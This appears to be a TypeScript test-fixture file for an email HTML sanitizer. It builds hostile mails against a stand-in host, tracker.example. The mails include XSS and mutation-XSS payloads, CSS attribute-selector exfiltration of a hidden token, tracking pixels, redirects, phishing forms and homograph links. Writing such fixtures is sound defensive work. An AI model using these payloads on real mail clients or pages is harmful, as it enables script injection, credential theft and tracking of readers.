/** Where a mail that got out would be heard of. Nothing may ever ask for it. */
export const ELSEWHERE = 'https://tracker.example';
export const START = 'The start of the letter.';
export const END = 'The end of the letter.';

const gone = (what: string) => `parent.pwned='${what}'`;
/** Runs in the page when any parser on the way makes an element of it. */
const bomb = (what: string) => `<img src=x onerror="${gone(what)}">`;

/** One mail with everything a mail has ever been used for against its reader. */
export const HOSTILE_HTML = `<!doctype html><html><head>
<base href="${ELSEWHERE}/">
<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/refresh">
<link rel="stylesheet" href="${ELSEWHERE}/style.css">
<style>
@import url("${ELSEWHERE}/import.css");
@font-face { font-family: spy; src: url(${ELSEWHERE}/font.woff2); }
body { background: url(${ELSEWHERE}/background.png); font-family: spy; }
.escaped { background-image: u\\72l(${ELSEWHERE}/escaped.png); }
.set { background-image: image-set("${ELSEWHERE}/set.png" 1x); }
input[value^="a"] { background: url(${ELSEWHERE}/exfiltrated-a); }
.cover { position: fixed; inset: 0; z-index: 99999; }
</style></head>
<body onload="${gone('onload')}" background="${ELSEWHERE}/body.png" style="background:url('${ELSEWHERE}/inline.png')">
<script>${gone('script')}; top.location='${ELSEWHERE}/top'</script>
${bomb('onerror')}
<img src="${ELSEWHERE}/pixel.gif" width="1" height="1" srcset="${ELSEWHERE}/pixel2.gif 2x">
<svg onload="${gone('svg')}"><script>${gone('svgscript')}</script><image href="${ELSEWHERE}/svg.png"/></svg>
<math><mtext></mtext><mglyph><style>${bomb('mxss')}</style></mglyph></math>
<iframe src="${ELSEWHERE}/frame"></iframe><iframe srcdoc="<script>parent.${gone('srcdoc')}</script>"></iframe>
<object data="${ELSEWHERE}/object"></object><embed src="${ELSEWHERE}/embed">
<video poster="${ELSEWHERE}/poster.png" autoplay><source src="${ELSEWHERE}/video.mp4"></video>
<form action="${ELSEWHERE}/form"><input name="password" autofocus onfocus="${gone('focus')}"><button>Sign in again</button></form>
<p class="escaped set cover">Dear customer,</p>
<p><a href="javascript:${gone('javascript')}" ping="${ELSEWHERE}/ping">Confirm</a></p>
<p><a href="${ELSEWHERE}/steal?b=1" target="_top">https://www.mybank.example/login</a></p>
<p><a href="https://аpple.example/">apple</a> and \u202Egnp.exe\u202C</p>
<p>${END}</p>
</body></html>`;

const mail = (head: string, body: string) =>
  `<!doctype html><html><head>${head}</head><body><p>${START}</p>${body}<p>${END}</p></body></html>`;

/** Each way by itself, so that no wall is stood in for by another. */
export const HOSTILE_MAILS: Readonly<Record<string, string>> = {
  'style sheets that fetch': mail(
    `<style>@import "${ELSEWHERE}/a.css"; @import url(${ELSEWHERE}/b.css) layer(x) supports(display:grid) screen;
@\\69mport url(${ELSEWHERE}/c.css); @namespace url(${ELSEWHERE}/ns);
@font-face{font-family:spy;src:local(x),url(${ELSEWHERE}/f.woff2) format("woff2");unicode-range:U+41}
@media all{@supports (display:grid){p{background:url( "${ELSEWHERE}/media.png" )}}}
p{list-style-image:url(${ELSEWHERE}/l.png);cursor:url(${ELSEWHERE}/c.cur),auto;border-image:url(${ELSEWHERE}/bi.png) 1}
p::before{content:url(${ELSEWHERE}/content.png)} p{mask-image:url(${ELSEWHERE}/m.svg#m);filter:url(${ELSEWHERE}/f.svg#f)}
p{background:URL(${ELSEWHERE}/upper);background:\\75\\72\\6c(${ELSEWHERE}/esc);background:u/**/rl(${ELSEWHERE}/comment)}
p{--x:url(${ELSEWHERE}/var);background:var(--x);background:cross-fade(url(${ELSEWHERE}/cf.png),url(${ELSEWHERE}/cg.png))}
p{background:image-set(url(${ELSEWHERE}/is.png) 1x);background:-webkit-image-set("${ELSEWHERE}/wis.png" 1x);background:src("${ELSEWHERE}/src")}
@page{background:url(${ELSEWHERE}/page)} @counter-style c{symbols:url(${ELSEWHERE}/counter)}
/* unclosed { background:url(${ELSEWHERE}/unclosed</style>`,
    `<p style="background:url(&quot;${ELSEWHERE}/attr.png&quot;)">a</p><p style="background:u\\72l(${ELSEWHERE}/attr2)">b</p>`,
  ),
  'attribute selectors that spell a secret': mail(
    `<style>${[...'abcdef'].map((letter) => `input[value^="${letter}"]{background:url(${ELSEWHERE}/leak?${letter})}a[href*="${letter}"]{background:url(${ELSEWHERE}/href?${letter})}`).join('')}
html:has(input[name="token"][value^="a"]){background:url(${ELSEWHERE}/has)}
@font-face{font-family:leak;src:url(${ELSEWHERE}/ligature)} p{font-family:leak}
p::first-line{background:url(${ELSEWHERE}/line)} *:visited{background:url(${ELSEWHERE}/visited)}</style>`,
    `<input name="token" type="hidden" value="abc"><p><a href="https://shop.example/abc">abc</a></p>`,
  ),
  'style sheets that break out': mail(
    `<style></style${bomb('a')}<style>x{}</style>${bomb('b')}<style><!--</style>${bomb('c')}--></style>`,
    `<p style="x:expression(${gone('expression')});behavior:url(${ELSEWHERE}/x.htc);-moz-binding:url(${ELSEWHERE}/x.xml#x)">a</p>
<style>a{x:"</style>${bomb('d')}"}</style><style>@import'${ELSEWHERE}/q.css'</style>`,
  ),
  'markup that changes when it is parsed again': mail(
    '',
    `<svg></p><style><a id="</style>${bomb('m0')}">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${gone('m1')}&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror="${gone('m2')}">
<noscript><p title="</noscript>${bomb('m3')}"></noscript>
<svg><foreignObject><p><style><img src="</style>${bomb('m4')}"></foreignObject></svg>
<svg><animate onbegin="${gone('m5')}" attributeName=x dur=1s></svg><svg><set onbegin="${gone('m6')}" attributeName=x></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${gone('m7')}'/></svg>#x"></use></svg>
<svg><a xlink:href="javascript:${gone('m8')}"><text y="10">x</text></a></svg>
<xmp><p title="</xmp>${bomb('m9')}"></xmp><listing>&lt;img src=1 onerror=${gone('m10')}&gt;</listing>
<title><a href="</title>${bomb('m11')}"></title><textarea><p title="</textarea>${bomb('m12')}"></textarea>
<select><template><style><!--</style><a rel="--></style></template></select>${bomb('m13')}">x</a>
<![CDATA[ ${bomb('m14')} ]]><?xml version="1.0"?><!--><img src=1 onerror="${gone('m15')}">-->
<math href="javascript:${gone('m16')}">x</math><math><annotation-xml encoding="text/html"><style>${bomb('m17')}</style></annotation-xml></math>
<template><script>${gone('m18')}</script></template><div><template shadowrootmode="open"><script>${gone('m19')}</script><img src="${ELSEWHERE}/shadow"></template></div>
<a id="body"></a><img name="body"><form id="cookie" name="head"><input name="innerHTML" id="firstChild"></form>
<script\n>${gone('m20')}</script\n><scr<script>ipt>${gone('m21')}</scr</script>ipt>${'<div>'.repeat(600)}deep${'</div>'.repeat(600)}`,
  ),
  'forms, and what asks for input': mail(
    '',
    `<form action="${ELSEWHERE}/form" method="post"><input name="password" type="password" autofocus onfocus="${gone('focus')}">
<input type="image" src="${ELSEWHERE}/submit.png" formaction="${ELSEWHERE}/fa"><button formaction="javascript:${gone('formaction')}">Sign in</button>
<input type="submit" form="outer" formtarget="_top"><select onchange="${gone('change')}"><option>x</select><isindex action="${ELSEWHERE}">
<textarea autofocus onfocus="${gone('textarea')}"></textarea><keygen autofocus onfocus="${gone('keygen')}"></form>
<p contenteditable autofocus onfocus="${gone('editable')}" tabindex="1" accesskey="a">type here</p>
<dialog open><p>Your session has ended</p></dialog><div popover id="p">x</div><button popovertarget="p">y</button>
<details open ontoggle="${gone('toggle')}"><summary>more</summary></details><marquee onstart="${gone('marquee')}">x</marquee>`,
  ),
  'ways to another page': mail(
    `<base href="${ELSEWHERE}/" target="_top"><meta http-equiv="refresh" content="0;url=${ELSEWHERE}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'"><meta http-equiv="set-cookie" content="a=b">
<link rel="prefetch" href="${ELSEWHERE}/prefetch"><link rel="dns-prefetch" href="${ELSEWHERE}"><link rel="preconnect" href="${ELSEWHERE}">
<link rel="preload" as="image" href="${ELSEWHERE}/preload.png"><link rel="modulepreload" href="${ELSEWHERE}/m.js"><link rel="icon" href="${ELSEWHERE}/icon.png">
<script type="speculationrules">{"prefetch":[{"urls":["${ELSEWHERE}/spec"]}]}</script>`,
    `<iframe src="${ELSEWHERE}/frame"></iframe><iframe srcdoc="<script>parent.${gone('srcdoc')}</script>"></iframe>
<iframe src="javascript:parent.${gone('iframejs')}"></iframe><frameset><frame src="${ELSEWHERE}/fs"></frameset><portal src="${ELSEWHERE}/portal"></portal>
<object data="${ELSEWHERE}/object" type="text/html"></object><embed src="${ELSEWHERE}/embed"><applet code="x" archive="${ELSEWHERE}/a.jar"></applet>
<a href="javascript:${gone('a')}" ping="${ELSEWHERE}/ping">one</a> <a href="java\tscript:${gone('tab')}">two</a> <a href="&#106;avascript:${gone('entity')}">three</a>
<a href="data:text/html,<script>parent.${gone('data')}</script>">four</a> <a href="vbscript:x">five</a> <a href="//tracker.example/relative">six</a>
<map name="m"><area shape="rect" coords="0,0,999,999" href="${ELSEWHERE}/area" alt="area"></map><img usemap="#m" alt="map">`,
  ),
  pixels: mail(
    '',
    `<img src="${ELSEWHERE}/1.gif" width="1" height="1"><img src="//tracker.example/2.gif"><img src="http://tracker.example/3.gif">
<img srcset="${ELSEWHERE}/4.gif 1x, ${ELSEWHERE}/5.gif 2x"><picture><source srcset="${ELSEWHERE}/6.gif"><img src="${ELSEWHERE}/7.gif" loading="eager"></picture>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${ELSEWHERE}/8.png'/></svg>"><img lowsrc="${ELSEWHERE}/9" dynsrc="${ELSEWHERE}/10">
<table background="${ELSEWHERE}/11"><tr background="${ELSEWHERE}/12"><td background="${ELSEWHERE}/13">x</td></tr></table>
<video poster="${ELSEWHERE}/14" autoplay src="${ELSEWHERE}/15"><track default src="${ELSEWHERE}/16"></video><audio src="${ELSEWHERE}/17" autoplay></audio><bgsound src="${ELSEWHERE}/18">
<svg><image href="${ELSEWHERE}/19"/><feImage href="${ELSEWHERE}/20"/></svg><input type="image" src="${ELSEWHERE}/21"><object data="${ELSEWHERE}/22.png" type="image/png"></object>
<blockquote cite="${ELSEWHERE}/23">x</blockquote><q cite="${ELSEWHERE}/24">y</q><del cite="${ELSEWHERE}/25">z</del><img longdesc="${ELSEWHERE}/26" alt="w">`,
  ),
};

/** About 5 MB of HTML, as a newsletter with every line styled inline. */
export function hugeMail(): string {
  const line = `<tr><td style="padding:4px;background:url(${ELSEWHERE}/row.png)"><b>Item</b> number, <a href="https://shop.example/item">see it</a></td></tr>`;
  return mail('', `<table>${line.repeat(Math.ceil(5_000_000 / line.length))}</table>`);
}
